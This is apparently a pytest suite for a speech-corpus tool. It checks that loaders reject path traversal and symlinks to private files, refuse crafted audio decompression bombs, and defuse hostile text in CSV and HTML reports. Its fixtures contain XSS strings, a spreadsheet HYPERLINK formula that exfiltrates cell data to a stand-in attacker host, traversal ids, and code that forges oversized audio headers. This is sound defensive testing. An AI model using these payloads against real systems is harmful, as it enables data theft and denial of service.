"""A corpus made to do harm: it reads no file of others, fills no memory, runs nothing in a page or a spreadsheet."""

import csv
import io
import json
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile
import torch
from datasets import Dataset
from rich.console import Console
from test_train import SMALL, make_config
from whispers import make_sound

from attune.audio import waveform as front_end
from attune.audio.waveform import SAMPLE_RATE_HZ, WINDOW_S, AudioError, encode_wav, load_waveform
from attune.data.corpora.common_voice import CommonVoiceCorpus
from attune.data.corpora.folder import FolderCorpus
from attune.data.corpora.hub import HubCorpus
from attune.data.corpora.librispeech import LibriSpeechCorpus
from attune.data.corpora.manifest import ManifestCorpus
from attune.data.corpora.places import Places, find_audio_folders
from attune.errors import InputError
from attune.report.predictions import read_predictions
from attune.text.cells import defuse, restore
from attune.use.audit import run_audit
from train import train

SCRIPT = "<script>alert(1)</script>"
IMAGE = "</td><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1)'
TEXTS = [SCRIPT, IMAGE, FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'=kept", "{{7*7}} ${x} %s", "a\u202eb\x00c"]
HOURS = 1


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A recording of this machine that is none of the corpus'."""
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.wav").write_bytes(encode_wav(make_sound(1.0, 99)))
    return tmp_path / "private" / "secret.wav"


def write_rows(path: Path, rows: list[dict[str, Any]]) -> str:
    path.parent.mkdir(exist_ok=True)
    path.write_text("\n".join(map(json.dumps, rows)))
    return str(path)


def in_manifest(root: Path, named: str, **allowed: Any) -> Any:
    path = write_rows(root / "rows.jsonl", [{"audio": named, "text": "x"}])
    return ManifestCorpus(path, path, language="en", **allowed)


def in_metadata(root: Path, named: str, **allowed: Any) -> Any:
    rows = [{"file_name": file, "text": "x"} for file in (named, "0.wav", "1.wav", "2.wav")]
    write_rows(root / "metadata.jsonl", rows)
    return FolderCorpus(str(root), "en", **allowed)


def in_common_voice(root: Path, named: str, **allowed: Any) -> Any:
    (root / "clips").mkdir(exist_ok=True)
    for name in ("train", "dev", "test"):
        (root / f"{name}.tsv").write_text(f"client_id\tpath\tsentence\n{name}\t{named}\tx\n")
    return CommonVoiceCorpus(str(root), "en", **allowed)


def in_librispeech(root: Path, named: str, **allowed: Any) -> Any:
    for name in ("train-clean-100", "dev-clean", "test-clean"):
        (root / name / "1" / "2").mkdir(parents=True, exist_ok=True)
        (root / name / "1" / "2" / "1-2.trans.txt").write_text(f"{named.removesuffix('.flac')} X\n")
    return LibriSpeechCorpus(str(root), **allowed)


def in_parquet(root: Path, named: str, **allowed: Any) -> Any:
    for name in ("train", "validation", "test"):
        row = {"audio": {"bytes": None, "path": named}, "text": "x"}
        Dataset.from_list([row]).to_parquet(root / f"{name}.parquet")
    return HubCorpus(str(root), "en", cache_dir=str(root.parent / "cache"), **allowed)


READERS = [in_manifest, in_metadata, in_common_voice, in_librispeech, in_parquet]


@pytest.mark.parametrize("how", ["absolute", "upwards", "link", "link to a folder"])
@pytest.mark.parametrize("make", READERS)
def test_a_corpus_names_no_file_of_others(make: Callable[..., Any], how: str, secret: Path, tmp_path: Path) -> None:
    root = tmp_path / "corpus"
    root.mkdir()
    for number in range(3):
        (root / f"{number}.wav").write_bytes(encode_wav(make_sound(1.0, number)))
    secret = secret.rename(secret.with_suffix(".flac"))
    below = (
        root / "train-clean-100/1/2" if make is in_librispeech else root / "clips" if make is in_common_voice else root
    )
    below.mkdir(parents=True, exist_ok=True)
    named = {
        "absolute": str(secret),
        "upwards": os.path.relpath(secret, below),
        "link": "linked.flac",
        "link to a folder": "folder/secret.flac",
    }[how]
    (below / "linked.flac").symlink_to(secret)
    (below / "folder").symlink_to(secret.parent, target_is_directory=True)
    if make is in_parquet and how != "absolute":
        named = str(root / named)  # `datasets` leaves what is relative to the working folder
    with pytest.raises(InputError, match=rf"secret\.flac,? ?.*outside .*data\.audio_folders=\[{secret.parent}\]"):
        make(root, named).splits()
    for allowed in (str(secret.parent), "/"):
        if make is in_librispeech:  # the other sets have no such link
            make(root, named, audio_folders=[allowed]).places.check(below / named, "here")
        else:
            row = make(root, named, audio_folders=[allowed]).splits()["train"][0]
            assert row["text"] == "x"


def test_links_beside_recordings_are_not_followed(secret: Path, tmp_path: Path) -> None:
    """Neither the sound nor, which would be shown in a page, the text."""
    root = tmp_path / "corpus"
    for number in range(3):
        folder = root / f"{number}"
        folder.mkdir(parents=True)
        (folder / "a.wav").write_bytes(encode_wav(make_sound(1.0, number)))
        (folder / "a.txt").write_text("x")
    assert len(FolderCorpus(str(root), "en").splits()["train"]) == 1
    for name, target in {"a.wav": secret, "a.txt": Path("/etc/passwd")}.items():
        kept = (root / "1" / name).read_bytes()
        (root / "1" / name).unlink()
        (root / "1" / name).symlink_to(target)
        with pytest.raises(InputError, match=r"outside .*data\.audio_folders"):
            FolderCorpus(str(root), "en").splits()
        (root / "1" / name).unlink()
        (root / "1" / name).write_bytes(kept)


def test_a_name_that_only_begins_alike_is_outside(tmp_path: Path) -> None:
    places = Places(tmp_path / "corpus")
    (tmp_path / "corpus-private").mkdir()
    assert places.check(tmp_path / "corpus" / "a" / "b.wav", "here") == str(tmp_path / "corpus" / "a" / "b.wav")
    for path in (
        tmp_path / "corpus-private" / "a.wav",
        tmp_path / "corpus" / ".." / "a.wav",
        tmp_path / "corpus" / "..",
    ):
        with pytest.raises(InputError, match="outside"):
            places.check(path, "here")


def test_what_is_found_is_a_file_of_its_corpus(tmp_path: Path) -> None:
    corpus, private = tmp_path / "corpus", tmp_path / "private"
    (corpus / "clips").mkdir(parents=True)
    private.mkdir()
    for folder in (corpus / "clips", private):
        (folder / "a.wav").write_bytes(b"RIFF")
    (corpus / "inner.wav").symlink_to(corpus / "clips" / "a.wav")
    (corpus / "outer.wav").symlink_to(private / "a.wav")
    (corpus / "elsewhere").symlink_to(private)
    places = Places(corpus)
    assert places.find("clips/a.wav", "here") == str(corpus / "clips" / "a.wav")
    assert places.find("inner.wav", "here") == str(corpus / "inner.wav")
    for name in ("outer.wav", "elsewhere/a.wav", "../private/a.wav", str(private / "a.wav")):
        with pytest.raises(InputError, match="outside"):
            places.find(name, "here")
    for name in ("clips", "none.wav", "a\0.wav"):
        places.missing.clear()
        path = places.find(name, "here")  # the audit sets its row aside
        assert places.missing == [f"here: there is no audio file {path}"]
        with pytest.raises(AudioError, match="there is no file"):
            load_waveform(path)


def test_what_was_written_here_says_which_folders_it_needs(tmp_path: Path) -> None:
    rows = [{"audio": "/data/a/1.wav"}, {"audio": "/data/b/2.wav"}, {"audio": "audio/3.wav"}]
    assert find_audio_folders([Path(write_rows(tmp_path / "a.jsonl", rows))]) == ["/data"]
    assert find_audio_folders([Path(write_rows(tmp_path / "b.jsonl", rows[2:])), tmp_path / "gone.jsonl"]) == []
    far = [{"audio": "/x/1.wav"}, {"audio": "/y/2.wav"}]
    assert find_audio_folders([Path(write_rows(tmp_path / "c.jsonl", far))]) == ["/x", "/y"]


def make_flac() -> bytes:
    """Hours of silence in little room, written block by block."""
    buffer = io.BytesIO()
    with soundfile.SoundFile(buffer, "w", SAMPLE_RATE_HZ, 1, format="FLAC") as file:
        for _ in range(HOURS * 6):
            file.write(np.zeros(600 * SAMPLE_RATE_HZ, np.int16))
    return buffer.getvalue()


def make_ogg() -> bytes:
    """A second whose last page says that it ends after hours; with the right checksum, so that it is believed."""
    buffer = io.BytesIO()
    soundfile.write(buffer, make_sound(1.0, 5).numpy(), SAMPLE_RATE_HZ, format="OGG", subtype="VORBIS")
    ogg = bytearray(buffer.getvalue())
    page = ogg.rindex(b"OggS")
    ogg[page + 6 : page + 14] = struct.pack("<q", HOURS * 3600 * SAMPLE_RATE_HZ)
    ogg[page + 22 : page + 26] = bytes(4)
    checksum = 0
    for byte in ogg[page:]:
        checksum ^= byte << 24
        for _ in range(8):
            checksum = (checksum << 1) ^ (0x04C11DB7 if checksum & 0x80000000 else 0)
        checksum &= 0xFFFFFFFF
    ogg[page + 22 : page + 26] = struct.pack("<I", checksum)
    return bytes(ogg)


def claim_a_gigabyte() -> bytes:
    wav = bytearray(encode_wav(make_sound(1.0, 7)))
    wav[4:8] = wav[40:44] = struct.pack("<I", 1 << 30)
    return bytes(wav)


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    """Hours by their header; hours of which the header says nothing; a second that claims a gigabyte."""
    flac = make_flac()
    open_ended = bytearray(flac)
    open_ended[21] &= 0xF0
    open_ended[22:26] = bytes(4)
    return {
        "long.flac": flac,
        "open.flac": bytes(open_ended),
        "long.ogg": make_ogg(),
        "gb.wav": claim_a_gigabyte(),
    }


@pytest.fixture
def most_read(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many frames were decoded of each file."""
    read, seen = front_end.read_mono, []

    def watch(file: soundfile.SoundFile, frames: int) -> torch.Tensor:
        samples = read(file, frames)
        seen.append(len(samples))
        return samples

    monkeypatch.setattr(front_end, "read_mono", watch)
    return seen


def test_hours_in_a_few_bytes_are_refused(bombs: dict[str, bytes], most_read: list[int]) -> None:
    assert all(len(bomb) < 5e6 for bomb in bombs.values())
    for name in ("long.flac", "long.ogg"):
        with pytest.raises(AudioError, match=r"too long: \d+\.\d s by its header"):
            load_waveform(bombs[name])
    assert most_read == []  # nothing was decoded
    with pytest.raises(AudioError, match=r"too long: more than 2097\.2 s"):
        load_waveform(bombs["open.flac"])
    assert most_read == [front_end.MOST_FRAMES + 1]
    assert len(load_waveform(bombs["gb.wav"])) == SAMPLE_RATE_HZ
    assert len(load_waveform(bombs["long.flac"], 3000.0, 3010.0)) == 10 * SAMPLE_RATE_HZ  # a part may be asked for


def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.wav")
    with pytest.raises(AudioError, match="there is no file"):
        load_waveform(tmp_path / "a.wav")
    with pytest.raises(AudioError, match="there is no file"):
        load_waveform("/dev/zero")


@pytest.mark.parametrize("text", [*TEXTS, "", "plain", "'quoted'", "''=1", "＝1"])
def test_cells_come_back(text: str) -> None:
    assert restore(defuse(text)) == text
    assert defuse(text)[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.fixture
def corpus(tmp_path: Path, bombs: dict[str, bytes]) -> Path:
    """Recordings with texts, names and speakers that are code; and the bombs."""
    root = tmp_path / "corpus"
    root.mkdir()
    rows = []
    for number, text in enumerate(TEXTS):
        (root / f"{number}.wav").write_bytes(encode_wav(make_sound(1.0 + number / 10, number)))
        about = {"speaker": TEXTS[-number - 1], "language": "en", "id": f"{TEXTS[number - 1]} ../../pwned{number}"}
        rows.append({"audio": f"{number}.wav", "text": text, **about})
    for name, bomb in bombs.items():
        (root / name).write_bytes(bomb)
        rows.append({"audio": name, "text": f"{SCRIPT} {name}", "speaker": FORMULA, "language": "en", "id": f"={name}"})
    for split in ("train", "validation", "test"):
        write_rows(root / f"{split}.jsonl", rows)
    return root


def words_of(corpus: Path) -> list[str]:
    files = [f"data.{split}={corpus / split}.jsonl" for split in ("train", "validation", "test")]
    return ["data=manifest", *files, "data.max_rejected=0.5", "context=audio"]


def check_tables(folder: Path) -> int:
    """No cell of any table is a formula; how many cells begin with an apostrophe."""
    cells: list[str] = []
    for path in folder.rglob("*.csv"):
        if path.name != "metrics.csv":
            with path.open(newline="", encoding="utf-8-sig") as file:
                cells += [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
    assert not [cell for cell in cells if cell.startswith("-") and not cell[1:].replace(".", "").isdecimal()]
    return sum(cell.startswith("'") for cell in cells)


def check_pages(folder: Path) -> None:
    pages = [path.read_text("utf-8") for path in folder.rglob("*.html")]
    assert pages
    for page in pages:
        assert SCRIPT not in page and IMAGE not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(1)" in page or "\\u003cscript" in page or "alert(1)" not in page


@pytest.mark.slow
def test_the_whole_corpus_does_no_harm(
    corpus: Path, tmp_path: Path, most_read: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    before = {path: path.read_bytes() for path in corpus.rglob("*")}
    console = Console(file=io.StringIO(), width=200)
    run_audit(console, make_config(*words_of(corpus), "name=test"), tmp_path / "audit")
    assert check_tables(tmp_path / "audit") > 0
    check_pages(tmp_path / "audit")
    rejected = (tmp_path / "audit" / "rejected.csv").read_text()
    assert rejected.count("s by its header") == 6 and rejected.count("too long: more than") == 3

    # The scored splits are read again and again, so that the bomb without a length is left out of them.
    for split in ("train", "validation", "test"):
        lines = (corpus / f"{split}.jsonl").read_text().splitlines()
        (corpus / f"{split}.jsonl").write_text("\n".join(line for line in lines if "open.flac" not in line))
        before[corpus / f"{split}.jsonl"] = (corpus / f"{split}.jsonl").read_bytes()
    most_read.clear()
    train(make_config(*SMALL, *words_of(corpus), f"folder={tmp_path / 'run'}", "name=test"))
    assert max(most_read) <= WINDOW_S * SAMPLE_RATE_HZ
    assert check_tables(tmp_path / "run") > 0
    check_pages(tmp_path / "run")
    rows = read_predictions(tmp_path / "run" / "predictions" / "test.csv")
    assert {row.reference for row in rows} >= {*TEXTS}  # what was defused comes back
    assert {row.speaker for row in rows} == {*TEXTS, FORMULA}
    assert {path: path.read_bytes() for path in corpus.rglob("*")} == before
    assert not [path for path in tmp_path.rglob("*pwned*")]
